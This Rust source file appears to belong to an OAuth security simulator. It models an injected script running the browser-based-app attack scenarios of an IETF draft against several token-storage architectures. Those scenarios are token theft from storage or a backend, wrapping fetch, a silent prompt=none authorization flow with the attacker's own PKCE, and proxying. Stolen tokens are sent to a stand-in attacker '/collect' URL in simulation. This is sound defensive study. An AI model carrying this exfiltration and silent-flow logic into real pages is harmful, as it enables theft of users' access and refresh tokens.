//! The injected script: a cross-site scripting payload, or a compromised
//! library the page loads. It runs in the page with the page's rights, so it
//! reaches what the page's JavaScript reaches: web storage, the page's
//! `fetch` (which it can wrap), and requests that carry the page's cookies,
//! though it cannot read an `HttpOnly` one. It plays the four attack
//! scenarios of draft-ietf-oauth-browser-based-apps-26 section 5.1, each
//! with every request it needs on the trace; what they won is read from
//! the trace afterwards (`outcome.rs`), never assumed here.

use super::app::{App, STORED, TOKEN_PATH};
use super::architecture::Architecture;
use crate::form::encode_form;
use crate::http::{Request, Url};
use crate::pkce::{CodeVerifier, DEFAULT_LEN, PkceMethod};
use crate::sim::attacks::moves::{attacker_url, callback_page, location, query_param};
use crate::sim::client::random_value;
use crate::sim::network::{Network, from_browser};
use crate::sim::stop::Stop;
use crate::sim::trace::{Exchange, Party, RfcRef};

/// Token disclosure, the threat bearer tokens are open to.
const EXFILTRATE: [RfcRef; 1] = [RfcRef::new(6750, "5.1")];
const SILENT_FLOW: [RfcRef; 2] = [RfcRef::new(6749, "4.1.1"), RfcRef::new(7636, "4.3")];
const REDEEM: [RfcRef; 2] = [RfcRef::new(6749, "4.1.3"), RfcRef::new(6749, "2.3.1")];

/// The steps the script sent, in order.
#[derive(Debug, Default)]
pub(super) struct Script {
    pub steps: Vec<usize>,
}

impl Script {
    fn sent(&mut self, network: &Network<'_>) {
        self.steps.push(network.trace.len().saturating_sub(1));
    }

    /// Sends what it took to the attacker's site, as an image request
    /// (anything the page can load would do).
    fn exfiltrate(
        &mut self,
        network: &mut Network<'_>,
        app: &mut App,
        loot: &[(&str, String)],
        explanation: &str,
    ) {
        if loot.is_empty() {
            return;
        }
        let pairs: Vec<(&str, &str)> = loot.iter().map(|(n, v)| (*n, v.as_str())).collect();
        let url = Url {
            query: Some(encode_form(&pairs)),
            ..attacker_url("/collect")
        };
        let request = app.browser.subresource_request(url);
        from_browser(
            network,
            &mut app.browser,
            request,
            false,
            explanation,
            &EXFILTRATE,
        );
        self.sent(network);
    }

    /// Section 5.1.1, single-execution token theft: the script takes what
    /// it can reach now and sends it off.
    pub fn single_execution(
        &mut self,
        network: &mut Network<'_>,
        app: &mut App,
    ) -> Result<(), Stop> {
        let mut loot = Vec::new();
        match app.architecture {
            Architecture::LocalStorage => {
                for key in STORED {
                    if let Some(value) = app.local_storage.get(key) {
                        loot.push((key, value.clone()));
                    }
                }
            }
            // Tokens in a variable of the app's code, out of any script's
            // reach until the app uses them (section 8.4); a cookie that is
            // HttpOnly is not in document.cookie (RFC 6265 section 5.4).
            Architecture::Memory | Architecture::Bff => {}
            Architecture::TokenMediatingBackend => {
                let answer = app.ask_backend(
                    network,
                    TOKEN_PATH,
                    "The injected script asks the backend for an access token, as the app's \
                     code does. The browser adds the session cookie, so the backend cannot \
                     tell them apart (section 6.2.4.3.1).",
                )?;
                self.sent(network);
                if let Some(token) = answer
                    .json_body()
                    .and_then(|body| body["access_token"].as_str().map(str::to_owned))
                {
                    loot.push(("access_token", token));
                }
            }
        }
        self.exfiltrate(
            network,
            app,
            &loot,
            "The script sends what it took to the attacker's site, as the address of an image.",
        );
        Ok(())
    }

    /// Section 5.1.2, persistent token theft: the script stays and wraps
    /// the page's `fetch`, so every token the app sends or receives from
    /// now on passes through it. Time passes, the access token expires, and
    /// the app does what it does next: the script sends on the newest
    /// tokens it saw.
    pub fn persistent(&mut self, network: &mut Network<'_>, app: &mut App) -> Result<(), Stop> {
        let lifetime = network.server.config().policy.access_token_lifetime;
        network.clock.advance(lifetime);
        let from = network.trace.len();
        app.fetch_data(network, "Later, the app's code")?;
        let page = page_party(app);
        let loot = tokens_seen(network.trace[from..].iter().filter(|e| e.from == page));
        self.exfiltrate(
            network,
            app,
            &loot,
            "The script's wrapper around fetch saw the tokens the app sent and received, and \
             sends the newest to the attacker.",
        );
        Ok(())
    }

    /// Section 5.1.3, acquisition of new tokens: the script runs its own
    /// authorization request in a hidden frame, with its own PKCE. The
    /// user's session at the server answers without a page
    /// (`prompt=none`), the frame lands on the app's callback, and the
    /// script, on the same origin, reads the code from the frame's address
    /// and redeems it. A public client needs nothing more; a backend's
    /// client needs its secret, which never reached the page.
    pub fn new_tokens(&mut self, network: &mut Network<'_>, app: &mut App) -> Result<(), Stop> {
        let settings = app.client.settings.clone();
        let rng = &mut *network.rng;
        let verifier = CodeVerifier::generate(DEFAULT_LEN, rng)
            .map_err(|error| Stop::ErrorPage(error.to_string()))?;
        let state = random_value(rng)?;
        let challenge = verifier.challenge(PkceMethod::S256);
        let authorize = network.server.endpoint("/authorize").with_query(&[
            ("response_type", "code"),
            ("client_id", &settings.client_id),
            ("redirect_uri", &settings.redirect_uri),
            ("scope", &settings.scope),
            ("state", &state),
            ("code_challenge", challenge.as_str()),
            ("code_challenge_method", "S256"),
            ("prompt", "none"),
        ]);
        let redirect = from_browser(
            network,
            &mut app.browser,
            Request::get(authorize),
            false,
            "The script opens a hidden frame on the authorization endpoint, with the app's \
             client_id and redirect_uri, its own state and PKCE challenge, and prompt=none. The \
             browser sends the server's session cookie, so the server knows Alice and answers \
             without a page.",
            &SILENT_FLOW,
        );
        self.sent(network);
        let Some(callback) = location(&redirect) else {
            return Ok(());
        };
        let explanation = if app.architecture.client_in_page() {
            "The frame lands on the app's callback, on the app's own origin, so the script reads \
             the code from the frame's address."
        } else {
            // The backend sent no request with this state, so its callback
            // refuses it; the code is in the frame's address all the same.
            network.next_client_page = Some(callback_page(Some(
                "no sign-in of this session is waiting for this state",
            )));
            "The frame lands on the backend's callback, which refuses a state it never sent. \
             The code is in the frame's address all the same, on the app's origin, and the \
             script reads it."
        };
        from_browser(
            network,
            &mut app.browser,
            Request::get(callback.clone()),
            false,
            explanation,
            &SILENT_FLOW,
        );
        self.sent(network);
        let Some(code) = query_param(&callback, "code") else {
            return Ok(());
        };
        let request = Request::post_form(
            network.server.endpoint("/token"),
            &[
                ("grant_type", "authorization_code"),
                ("code", &code),
                ("redirect_uri", &settings.redirect_uri),
                ("client_id", &settings.client_id),
                ("code_verifier", verifier.as_str()),
            ],
        );
        let explanation = if app.architecture.client_in_page() {
            "The script redeems the code with its own code_verifier. The app is a public \
             client, so nothing else is needed: a new set of tokens, the app's own untouched."
        } else {
            "The script tries to redeem the code, but this client is confidential: without the \
             backend's secret the server refuses (section 6.1.4.2)."
        };
        let tokens = from_browser(
            network,
            &mut app.browser,
            request,
            false,
            explanation,
            &REDEEM,
        );
        self.sent(network);
        let loot = tokens_in(tokens.json_body().as_ref());
        self.exfiltrate(
            network,
            app,
            &loot,
            "The script sends the new tokens to the attacker.",
        );
        Ok(())
    }

    /// Section 5.1.4, proxying requests through the user's browser: the
    /// script asks for the user's data as the page does, with whatever the
    /// page uses, and sends the answer on.
    pub fn proxy(&mut self, network: &mut Network<'_>, app: &mut App) -> Result<(), Stop> {
        let from = network.trace.len();
        app.fetch_data(network, "The injected script, as the app's code would,")?;
        // The page's requests; the BFF's own call to the API is not one.
        let page = page_party(app);
        self.steps
            .extend((from..network.trace.len()).filter(|&step| network.trace[step].from == page));
        Ok(())
    }
}

/// The lane of the page's own requests: the app in the page is the
/// client's; with a backend, the page is the browser's, and the backend's
/// requests never pass through the page.
fn page_party(app: &App) -> Party {
    if app.architecture.client_in_page() {
        Party::Client
    } else {
        Party::Browser
    }
}

/// The newest access and refresh tokens in `exchanges`: in their token
/// responses, in the backend's answers, and as the bearer token of API
/// calls.
fn tokens_seen<'e>(exchanges: impl Iterator<Item = &'e Exchange>) -> Vec<(&'static str, String)> {
    let mut access = None;
    let mut refresh = None;
    for exchange in exchanges {
        if let Some(("Bearer", token)) = exchange.request.authorization() {
            access = Some(token.to_owned());
        }
        for (name, value) in tokens_in(exchange.response.json_body().as_ref()) {
            match name {
                "access_token" => access = Some(value),
                _ => refresh = Some(value),
            }
        }
    }
    let mut loot = Vec::new();
    loot.extend(access.map(|token| ("access_token", token)));
    loot.extend(refresh.map(|token| ("refresh_token", token)));
    loot
}

/// The tokens in a JSON body: a token response, or the backend's answer.
fn tokens_in(body: Option<&serde_json::Value>) -> Vec<(&'static str, String)> {
    let Some(body) = body else {
        return Vec::new();
    };
    STORED
        .into_iter()
        .filter_map(|name| Some((name, body[name].as_str()?.to_owned())))
        .collect()
}
